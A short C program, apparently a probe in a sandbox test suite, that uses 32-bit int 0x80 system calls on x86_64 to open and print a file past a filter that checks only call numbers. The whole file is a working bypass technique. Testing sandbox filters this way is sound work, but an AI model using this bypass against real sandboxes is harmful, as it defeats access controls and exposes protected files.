/* The 32-bit system calls of an x86_64 kernel: their numbers are others, so a filter that looks at
   the number alone lets them through. Opens the file with int 0x80 and prints what is in it. */

#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static long call32(long number, long first, long second, long third)
{
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(number), "b"(first), "c"(second), "d"(third)
                     : "memory", "r8", "r9", "r10", "r11");
    return result;
}

int main(int count, char **arguments)
{
    /* The arguments are 32 bits wide, so all memory has to be low. */
    char *low = mmap(NULL, 8192, PROT_READ | PROT_WRITE,
                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (count != 2 || low == MAP_FAILED)
        return 2;
    puts("ready");
    fflush(stdout);
    strncpy(low, arguments[1], 4095);
    long fd = call32(5, (long)low, 0, 0); /* open */
    long size = call32(3, fd, (long)low + 4096, 4095); /* read */
    printf("int80\tWON %.*s\n", (int)(size > 0 ? size : 0), low + 4096);
    return 0;
}
